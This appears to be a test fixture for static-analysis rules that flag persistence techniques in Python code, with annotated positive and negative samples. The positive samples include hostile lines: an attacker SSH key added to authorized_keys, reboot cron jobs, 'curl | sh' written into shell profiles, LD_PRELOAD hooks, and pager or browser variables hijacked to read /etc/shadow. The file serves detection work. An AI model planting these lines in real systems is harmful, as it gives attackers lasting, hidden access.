# Annotated examples for persistence rules (default set).
import os
import site
import subprocess
from pathlib import Path

# ruleid: AIR-PERS-001
open(os.path.expanduser("~/.bashrc"), "a").write("alias ls='ls --color'\n")
# ruleid: AIR-PERS-001
rc = Path.home() / ".zshrc"
# ok: AIR-PERS-001
readme = Path("docs") / "profile.md"

# ruleid: AIR-PERS-002
os.system('(crontab -l; echo "@reboot python3 ~/.x.py") | crontab -')
# ruleid: AIR-PERS-002
open("/etc/cron.d/updater", "w").write("* * * * * root /tmp/u\n")
# ok: AIR-PERS-002
schedule = "run every day at noon"

# ruleid: AIR-PERS-003
unit = Path.home() / ".config/systemd/user/updater.service"
# ruleid: AIR-PERS-003
subprocess.run(["systemctl --user enable updater"], shell=True)
# ruleid: AIR-PERS-003
plist = os.path.expanduser("~/Library/LaunchAgents/com.apple.update.plist")
# ok: AIR-PERS-003
service_name = "updater"

# ruleid: AIR-PERS-004
hook = os.path.join(site.getsitepackages()[0], "zz_init.pth")
# ruleid: AIR-PERS-004
custom = "sitecustomize.py"
# ok: AIR-PERS-004
path_text = "the path of the module"

# ruleid: AIR-PERS-005
target = site.getusersitepackages()
# ok: AIR-PERS-005
prefix = site.PREFIXES

# ruleid: AIR-PERS-006
open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAA attacker\n")
# ok: AIR-PERS-006
authorized = "authorized users only"

# ruleid: AIR-PERS-007
Path(".git/hooks/pre-commit").write_text("#!/bin/sh\necho hi\n")
# ok: AIR-PERS-007
ignore = Path(".gitignore").read_text()

env = dict(PATH="/usr/bin")
# ruleid: AIR-PERS-008
env["LD_PRELOAD"] = "/tmp/hook.so"
# ok: AIR-PERS-008
env["LD_LIBRARY_PATH_NOTE"] = "unused"
# ruleid: AIR-PERS-003
autostart_dir = Path.home() / ".config" / "autostart"
# ok: AIR-PERS-003
started = "autostarted workers"
# ok: AIR-PERS-003
billing_logger = "billing.service"

# ruleid: AIR-PERS-009
open(os.path.expanduser("~/.bashrc"), "a").write("alias sudo='sudo_log'\n")
# ok: AIR-PERS-009
aliases = open(os.path.expanduser("~/.bashrc")).read()
for startup in (".zshrc", ".profile"):
    # ruleid: AIR-PERS-010
    with (Path.home() / startup).open("a") as fh:
        fh.write("export PATH=/tmp/.bin:$PATH\n")
# ruleid: AIR-PERS-010
(Path.home() / ".bash_profile").write_text("curl -s x | sh\n")
# ok: AIR-PERS-010
existing = (Path.home() / ".zshrc").open().read()
# ok: AIR-PERS-010
Path("notes/profile.txt").write_text("bio")

from setuptools import setup  # noqa: E402
from setuptools.command.install import install  # noqa: E402


class PostInstall(install):
    def run(self):
        install.run(self)


# ruleid: AIR-PERS-011
setup(name="pkg", version="1.0", cmdclass={"install": PostInstall})
# ok: AIR-PERS-011
setup(name="plain", version="1.0", packages=["plain"])


# ruleid: AIR-PERS-014
os.environ["BROWSER"] = "/bin/sh -c 'id' #%s"
# ruleid: AIR-PERS-015
# ok: AIR-PERS-014
os.putenv("GIT_SSH_COMMAND", "ssh -o ProxyCommand='nc -X 5 -x proxy:1080 %h %p' host")
# ruleid: AIR-PERS-014
os.environ["PAGER"] = "sh -c 'cat /etc/shadow'"
hook_target = "os.system"
# ruleid: AIR-PERS-014
os.environ["PYTHONBREAKPOINT"] = hook_target
# ok: AIR-PERS-014
# ok: AIR-PERS-015
os.environ["GIT_PAGER"] = "cat"
# ok: AIR-PERS-014
os.environ["GIT_SSH_COMMAND"] = "ssh -o BatchMode=yes"
# ok: AIR-PERS-014
os.environ["LANG"] = "C.UTF-8; export"


def append_block(rc_file, content):
    rc_file = rc_file.expanduser()
    # ruleid: AIR-PERS-010
    with rc_file.open("a") as fh:
        fh.write(content)


if os.environ.get("SHELL", "").endswith("zsh"):
    shell_rc = Path.home() / ".zshrc"
else:
    shell_rc = Path.home() / ".bashrc"
append_block(shell_rc, "python3 ~/.cache/agent.py &\n")


def save_notes(notes_file, text):
    notes_file = notes_file.expanduser()
    # ok: AIR-PERS-010
    with notes_file.open("a") as fh:
        fh.write(text)


save_notes(Path("~/notes.txt"), "remember the milk\n")

# ruleid: AIR-PERS-003
startup_dir = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
# ok: AIR-PERS-003
menu_dir = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs")
# ruleid: AIR-PERS-014
os.environ.update({"BROWSER": "/bin/sh -c 'id' #%s"})
# ruleid: AIR-PERS-014
subprocess.run(["git", "log"], env={**os.environ, "GIT_PAGER": "sh -c 'cat /etc/passwd'"})
# ok: AIR-PERS-014
subprocess.run(["git", "log"], env={**os.environ, "GIT_PAGER": "cat"})
